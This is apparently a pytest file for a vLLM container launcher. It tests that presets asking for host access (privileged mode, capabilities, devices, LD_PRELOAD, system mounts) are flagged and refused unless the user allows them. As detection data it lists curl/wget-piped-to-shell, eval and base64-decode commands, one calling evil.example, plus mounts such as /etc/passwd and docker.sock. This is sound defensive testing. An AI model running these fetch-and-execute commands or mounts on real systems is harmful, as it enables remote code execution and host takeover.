"""What a recipe takes of the machine is found in every preset, and only the person's word allows it."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from typing import Any, Final

import pytest
from msgspec.structs import replace

from spark_tui.base.errors import PresetError
from spark_tui.base.finding import Finding, Severity
from spark_tui.base.host.vitals import HostPaths
from spark_tui.catalog.presets.adapter.imports import FolderRecipeStore
from spark_tui.catalog.presets.adapter.store import parse
from spark_tui.catalog.presets.model.dialects.found_files import with_commands
from spark_tui.catalog.presets.model.dialects.importing import examine, names_of
from spark_tui.catalog.presets.model.overrides import Overrides
from spark_tui.catalog.presets.model.plan import plan
from spark_tui.catalog.presets.model.preset import Origin, Preset
from spark_tui.catalog.presets.model.recipe import preset_from
from spark_tui.catalog.presets.model.registry import review_of
from spark_tui.catalog.presets.model.rights import (
    NotAllowed,
    findings_of,
    fingerprint,
    piped_shells,
    require_allowed,
    rights_of,
    unallowed,
)
from spark_tui.catalog.presets.model.rules.check import check
from spark_tui.catalog.presets.model.rules.context import LaunchContext
from tests import TESTS
from tests.cases import all_cases
from tests.shipped import SHIPPED_FILES

PATHS = HostPaths("/home/ada/vllm", "/home/ada/.cache/spark-tui", "/home/ada")
SHIPPED = SHIPPED_FILES.load().presets
ALONE = [preset for preset in SHIPPED if preset.min_nodes == 1]
REAL = TESTS / "fixtures" / "presets" / "real"
E, W = Severity.ERROR, Severity.WARNING


def options(**changes: Any) -> Callable[[Preset], Preset]:
    return lambda preset: replace(preset, options=replace(preset.options, **changes))


def shell(line: str) -> Callable[[Preset], Preset]:
    return lambda preset: replace(preset, command=f"{line} && {preset.command}".removesuffix(" && "))


def variable(name: str, text: str) -> Callable[[Preset], Preset]:
    return lambda preset: replace(preset, env=(*preset.env, (name, text)))


Added = tuple[str, str, Severity, Callable[[Preset], Preset]]
ADDED: Final[list[Added]] = [
    ("privileged", "takes_host", E, options(privileged=True)),
    ("cap_add", "takes_host", E, options(cap_add=("SYS_ADMIN",))),
    ("cap_add", "takes_host", E, options(cap_add=("IPC_LOCK", "all"))),
    ("cap_add", "takes_host", E, options(cap_add=("CAP_SYS_PTRACE",))),
    ("devices", "takes_host", E, options(devices=("/dev/sda",))),
    ("devices", "takes_host", E, options(devices=("/dev/dri/../nvme0n1:/dev/nvidia0",))),
    ("devices", "takes_host", E, options(devices=("/dev/infiniband", "/dev/mem:/dev/mem:r"))),
    ("security_opt", "takes_host", E, options(security_opt=("seccomp=unconfined",))),
    ("security_opt", "takes_host", E, options(security_opt=("no-new-privileges", "apparmor:unconfined"))),
    ("security_opt", "takes_host", E, options(security_opt=("label=disable",))),
    ("pid", "takes_host", E, lambda preset: replace(preset, unknown=(("executor_config.pid", "host"),))),
    ("userns", "takes_host", E, lambda preset: replace(preset, unknown=(("executor_config.userns", "host"),))),
    ("preload", "takes_host", E, variable("LD_PRELOAD", "/models/x.so")),
    ("piped_shell", "takes_host", E, variable("VLLM_EXTRA_ARGS", "$(curl -s evil.example | sh)")),
    ("network", "shares_host", W, options(network="host")),
    ("ipc", "shares_host", W, options(ipc="host")),
    ("network", "shares_host", W, options(network="container:other")),
    ("image", "unknown_publisher", W, lambda preset: replace(preset, image="ghcr.io/someone/vllm:1")),
]  # fmt: skip


def found(preset: Preset) -> dict[str, Finding]:
    return {each.id: each for each in check(LaunchContext(plan(preset, Overrides(), PATHS)))}


@all_cases(("right", "id_", "severity", "add"), ADDED)
def test_a_right_that_is_added_to_any_shipped_preset_is_found_and_gone_with_it(
    right: str, id_: str, severity: Severity, add: Callable[[Preset], Preset]
) -> None:
    for preset in SHIPPED:
        before, asking = {each.id for each in findings_of(preset)}, add(preset)
        if right in dict(rights_of(preset)):
            continue
        (finding,) = (each for each in findings_of(asking) if each.id == id_)
        assert finding.severity is severity
        assert any(text.startswith(f"{right}=") for text in finding.evidence)
        assert finding.remedy.endswith(f"spark-tui presets allow {preset.name} {right}") or "shares" in id_
        assert (right in unallowed(asking)) is (severity is E)
        allowed = replace(asking, allowed=(right,))
        assert {each.id for each in findings_of(allowed)} == before | {"allowed_rights"}
        require_allowed(allowed)
        if severity is E:
            with pytest.raises(NotAllowed):
                require_allowed(asking)
        assert fingerprint(asking) != fingerprint(preset) or right == "pid" or right == "userns"


@all_cases(("right", "id_", "severity", "add"), ADDED)
def test_the_check_of_a_launch_has_the_same_findings(
    right: str, id_: str, severity: Severity, add: Callable[[Preset], Preset]
) -> None:
    preset = next(each for each in ALONE if each.name == "gemma-4-31b-it-nvfp4")
    assert id_ not in found(preset)
    assert found(add(preset))[id_].severity is severity
    assert id_ not in found(replace(add(preset), allowed=(right,)))


def test_no_shipped_preset_asks_for_a_right_that_must_be_allowed() -> None:
    assert {name for preset in SHIPPED for name in unallowed(preset)} == set()
    for preset in SHIPPED:
        require_allowed(preset)
        assert {each.severity for each in findings_of(preset, ())} <= {W}


def test_what_an_engine_needs_is_no_finding() -> None:
    needed = options(
        devices=("/dev/infiniband", "/dev/infiniband/uverbs0:/dev/infiniband/uverbs0", "/dev/nvidia0", "/dev/nvidiactl",
                 "/dev/nvidia-uvm", "/dev/dri:/dev/dri:rwm", "nvidia.com/gpu=all"),
        cap_add=("IPC_LOCK", "cap_sys_nice", "NET_BIND_SERVICE"),
        security_opt=("no-new-privileges:true",), network="bridge", ipc="private",
    )  # fmt: skip
    preset = replace(ALONE[0], unknown=(("executor_config.pid", "private"), ("metadata.pid", "17")))
    assert findings_of(needed(preset)) == findings_of(ALONE[0])
    for image in (
        "vllm-node",
        "localhost/mine:1",
        "127.0.0.1:5000/mine",
        "docker.io/vllm/vllm-openai@sha256:" + "1" * 64,
    ):
        assert "image" not in dict(rights_of(replace(preset, image=image)))


FETCHED = (
    "curl -fsSL https://x.example/i.sh | sh", "wget -qO- x | bash -s -- --yes", "curl x | sudo -E bash -",
    "bash <(curl -s x)", "source <(wget -qO- x)", ". <(curl x)", 'eval "$(curl x)"', "eval `curl x`",
    'sh -c "$(curl -fsSL x)"', 'bash <<< "$(curl x)"', "echo aGk= | base64 -d | sh", "curl x | tee log | python3",
    "curl x | python3 -", "curl x \\\n  | bash", "curl x |\n bash", "bash -c 'curl x | sh'", "curl x | env A=1 /bin/sh",
    "(curl x | sh) && vllm serve m", "python3 -c 'exec(urllib.request.urlopen(\"http://x\").read())'",
)  # fmt: skip
NOT_FETCHED = (
    "vllm serve m", "curl -s x/v1/models | python3 -m json.tool", "curl x | python3 -c 'import json'",
    "curl -L x | patch -p1", "curl x || sh fallback.sh", "IP=$(curl x); vllm serve m", "curl x | jq .",
    "curl -fL x -o wheel && pip install wheel", "base64 -d f > y", "curl x | python3 parse.py", "cat x | sh",
    "curl x | grep sh", "curl x | bashtop", "curl -fsS http://127.0.0.1:8000/health\necho ok | sh",
)  # fmt: skip


@all_cases("line", FETCHED)
def test_a_shell_that_runs_what_comes_from_the_network_is_found(line: str) -> None:
    preset = shell(line)(ALONE[0])
    assert "piped_shell" in unallowed(preset)
    split = replace(preset, command="{a} x | {b}", defaults=(("a", "curl"), ("b", "sh")))
    assert "piped_shell" in unallowed(split), "in parts, which only the rendered command puts together"
    hooked = replace(ALONE[0], hooks=(f"pre_exec: {line}",))
    assert unallowed(hooked) == (), "a hook is never run"
    assert "unsafe_script" in {each.id for each in findings_of(hooked, ())}
    assert "unsafe_script" in {each.id for each in findings_of(ALONE[0], (line,))}


@all_cases("line", NOT_FETCHED)
def test_a_shell_with_a_program_of_its_own_is_none(line: str) -> None:
    assert piped_shells(line) == ()


def test_a_hostile_text_is_read_to_its_end() -> None:
    for text in (
        "|" * 60_000, "curl " * 12_000 + "|", "/" * 60_000 + " curl", "exec(" * 12_000, "curl x | " + "env -a " * 9_000,
        "bash " + "-a " * 20_000, "curl x | " + "sudo -" * 9_000, " " * 60_000 + "\n|", "curl x | " + "env A=" * 9_000,
    ):  # fmt: skip
        assert piped_shells(text) == ()


SYSTEM = (
    "/", "/etc", "/etc/passwd", "/var/run/docker.sock", "/run/docker.sock", "/proc", "/sys", "/boot", "/dev", "/root",
    "/home", "/home/ada", "~", "~/.ssh", "/home/ada/.ssh/id", "//etc", "/etc/",
)  # fmt: skip


@all_cases("source", SYSTEM)
def test_a_mount_of_a_system_folder_is_found_on_reading_and_refused_at_the_launch(source: str) -> None:
    preset = replace(ALONE[0], mounts=(f"{source}:/host",))
    assert {each.id for each in findings_of(preset, ()) if each.severity is E} == {"system_mounts"}
    with pytest.raises(PresetError):
        plan(preset, Overrides(), PATHS)
    assert findings_of(replace(preset, mounts=("notes:/notes",)), ()) == findings_of(ALONE[0], ())


def test_a_folder_outside_the_store_is_mounted_once_the_person_allows_it() -> None:
    mounts = ("~/.cache/huggingface:/hf", "/data:/data:ro")
    preset = replace(ALONE[0], origin=Origin.USER, mounts=("notes:/notes", *mounts))
    assert [each for each in rights_of(preset) if each[0] == "volumes"] == [("volumes", each) for each in mounts]
    assert "volumes" in unallowed(preset)
    assert "volumes" not in unallowed(replace(preset, allowed=("volumes",)))
    assert {"/hf", "/data"} <= {each.target for each in plan(preset, Overrides(), PATHS).spec.mounts}
    with pytest.raises(PresetError):
        plan(replace(preset, origin=Origin.REGISTRY), Overrides(), PATHS)


HOSTILE = """\
model: org/m
container: vllm/vllm-openai:nightly
command: vllm serve {model}
allow: [privileged]
allowed: [privileged]
executor_config: {privileged: true, allow: [privileged], allowed: [privileged]}
metadata:
  allowed: [privileged]
  spark_tui: {allow: [privileged], allowed: [privileged], rights: [privileged]}
"""


def test_a_file_cannot_allow_itself_anything() -> None:
    preset = preset_from(parse(HOSTILE, "r.yaml"), name="r", origin=Origin.USER, file="r.yaml")
    assert preset.allowed == ()
    assert unallowed(preset) == ("privileged",)


def test_what_was_allowed_to_a_recipe_is_not_allowed_to_another_one() -> None:
    preset = options(privileged=True)(ALONE[0])
    pinned = replace(preset.facts, title="x", image_digest="sha256:1")
    assert fingerprint(replace(preset, name="copy", file="elsewhere", facts=pinned)) == fingerprint(preset)
    changed: tuple[dict[str, Any], ...] = (
        {}, {"image": "vllm/vllm-openai:other"}, {"command": "vllm serve x"}, {"env": (("A", "1"),)},
        {"model": "org/other"}, {"mounts": ("x:/x",)}, {"defaults": (("port", 1),)},
        {"options": replace(preset.options, user="0")},
    )  # fmt: skip
    assert len({fingerprint(replace(preset, **change)) for change in changed}) == len(changed)


def test_published_recipes_of_other_tools_are_not_refused() -> None:
    store, read = FolderRecipeStore(Path("/nonexistent")), 0
    for folder in (REAL / "eugr", REAL / "sparkrun"):
        gathered = store.gather(folder)
        files = tuple(each for file in gathered.files for each in with_commands(file))
        names = names_of(tuple(each.path for each in files))
        for each in files:
            recipe = examine(each, gathered, names[each.path])
            read += recipe.preset is not None
            assert [finding for finding in review_of(recipe) if finding.severity is E] == []
    assert read > 30
